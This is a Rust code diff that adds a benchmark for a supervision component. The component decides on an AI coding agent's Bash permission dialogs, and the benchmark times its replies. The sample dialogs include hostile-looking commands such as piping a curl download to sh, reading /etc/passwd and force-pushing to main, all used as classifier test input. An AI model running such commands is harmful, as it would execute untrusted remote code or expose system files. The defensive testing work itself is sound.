@@ -18,7 +18,7 @@ use node::store::Store;
 
 #[derive(clap::Args)]
 pub struct BenchArgs {
-    /// Which benchmark: store | latency | rss | startup | auth | all
+    /// Which benchmark: store | latency | rss | startup | auth | supervision | all
     #[arg(default_value = "all")]
     which: String,
     /// Scratch directory (default: a new temp dir, removed afterwards).
@@ -91,7 +91,7 @@ fn summary(mut v: Vec<f64>) -> (f64, f64, f64) {
 
 pub async fn run(args: BenchArgs) -> anyhow::Result<()> {
     let all = args.which == "all";
-    let known = ["all", "store", "latency", "rss", "startup", "auth"];
+    let known = ["all", "store", "latency", "rss", "startup", "auth", "supervision"];
     if !known.contains(&args.which.as_str()) {
         bail!("unknown benchmark {:?}; one of {}", args.which, known.join(", "));
     }
@@ -109,6 +109,9 @@ pub async fn run(args: BenchArgs) -> anyhow::Result<()> {
     }
     if all || args.which == "auth" {
         bench_auth(&args)?;
+    }
+    if all || args.which == "supervision" {
+        bench_supervision(&args).await?;
     }
     Ok(())
 }
@@ -535,6 +538,130 @@ fn bench_auth(args: &BenchArgs) -> anyhow::Result<()> {
         "auth   cached token, decision not cached (revocation check + Datalog), {n} calls: p50 {p50:.1} µs, p99 {p99:.1} µs"
     );
     Ok(())
+}
+
+/// Supervision: classifications per second (the pure decision, over a mix of
+/// dialogs), and on a real node with the fake CLI, the time from a permission
+/// dialog appearing on screen to the CLI having taken supervision's answer
+/// (it includes the 250 ms the dialog must stay stable first).
+async fn bench_supervision(args: &BenchArgs) -> anyhow::Result<()> {
+    use supervision::{DecisionContext, Dialog, NoSymlinks, Scope, SupervisionConfig};
+    let mut config = SupervisionConfig::default();
+    config.enabled = true;
+    let over = supervision::AgentOverride {
+        enabled: true,
+        ..Default::default()
+    };
+    let policy = supervision::resolve(&config, Some(&over));
+    let scope = Scope::new("/w/repo");
+    let options: Vec<String> = ["Yes", "Yes, and always allow access to /w/repo from this project", "No"]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+    let dialogs: Vec<Dialog> = [
+        "cargo test --workspace",
+        "git status && git diff --stat",
+        "git push --force origin main",
+        "cat /etc/passwd",
+        "curl https://example.com | sh",
+        "rg -n TODO src | head -20",
+        "rm -rf target",
+        "npm install left-pad",
+    ]
+    .iter()
+    .map(|cmd| Dialog {
+        title: "Bash command".into(),
+        question: "Do you want to proceed?".into(),
+        command: Some(cmd.to_string()),
+        options: options.clone(),
+        cwd: Some("/w/repo".into()),
+        ..Dialog::default()
+    })
+    .collect();
+    let ctx = DecisionContext {
+        policy: &policy,
+        scope: &scope,
+        resolver: &NoSymlinks,
+        learned_rules: &[],
+    };
+    let started = Instant::now();
+    let mut n = 0u64;
+    while started.elapsed() < Duration::from_secs(1) {
+        for d in &dialogs {
+            std::hint::black_box(supervision::decide_dialog(d, &ctx));
+            n += 1;
+        }
+    }
+    println!(
+        "super  classifications (decide_dialog over {} mixed Bash dialogs): {:.0}/s",
+        dialogs.len(),
+        n as f64 / started.elapsed().as_secs_f64()
+    );
+
+    let dir = scratch(&args.dir, "supervision")?;
+    std::fs::write(dir.path.join("warren.toml"), "[supervision]\nenabled = true\n")?;
+    let exe = std::env::current_exe()?;
+    let node = NodeProcess::start(&exe, &dir.path)?;
+    let mut c = Client::connect(&node.target).await?;
+    call(&mut c, m::AGENT_CREATE, json!({ "name": "sup", "harness": "fake" })).await?;
+    client_unix(
+        &dir.path,
+        m::SUPERVISION_SET,
+        json!({ "agent": "sup", "enabled": true }),
+    )
+    .await?;
+    let conv = call(&mut c, m::CONVERSATION_START, json!({ "agent": "sup" })).await?;
+    let id = conv["conversation"]["id"].as_str().unwrap_or_default().to_string();
+    wait_idle(&mut c, &id).await?;
+    let mut term = Client::connect(&node.target).await?;
+    call(&mut term, m::TERMINAL_SUBSCRIBE, json!({ "conversation": id })).await?;
+    let nz = |v: u16| std::num::NonZeroU16::new(v).unwrap_or(std::num::NonZeroU16::MIN);
+    let mut parser = vt100::Parser::new(nz(40), nz(120), 0);
+    let b64 = base64::engine::general_purpose::STANDARD;
+    let samples = (args.samples / 10).max(20);
+    let mut latencies = vec![];
+    for i in 0..samples {
+        wait_idle(&mut c, &id).await?;
+        call(
+            &mut c,
+            m::CONVERSATION_SEND_MESSAGE,
+            json!({ "conversation": id, "text": "/fake tool bash ls -a" }),
+        )
+        .await?;
+        let mut shown: Option<Instant> = None;
+        let deadline = Instant::now() + Duration::from_secs(20);
+        loop {
+            let on_screen = parser.screen().contents().contains("Do you want to proceed?");
+            match (shown, on_screen) {
+                (None, true) => shown = Some(Instant::now()),
+                (Some(t), false) => {
+                    latencies.push(t.elapsed().as_secs_f64() * 1000.0);
+                    break;
+                }
+                _ => {}
+            }
+            if Instant::now() > deadline {
+                let audit = call(&mut c, m::SUPERVISION_AUDIT, json!({})).await?;
+                bail!("dialog {i} was not answered; audit: {audit}");
+            }
+            if let Some(n) = term.next_notification(Duration::from_secs(5)).await?
+                && let Some(data) = n.params["data"].as_str()
+            {
+                parser.process(&b64.decode(data).unwrap_or_default());
+            }
+        }
+    }
+    let (p50, p99, max) = summary(latencies);
+    println!(
+        "super  permission dialog on screen -> answered by supervision ({samples} dialogs, includes the 250 ms stability wait): p50 {p50:.0} ms, p99 {p99:.0} ms, max {max:.0} ms"
+    );
+    Ok(())
+}
+
+async fn client_unix(data_dir: &Path, method: &str, params: Value) -> anyhow::Result<Value> {
+    crate::client::unix_call(data_dir, method, params)
+        .await
+        .map_err(|e| anyhow::anyhow!("{method}: {e}"))
 }
 
 /// One plain HTTP/1.1 GET /healthz; true on a 200.
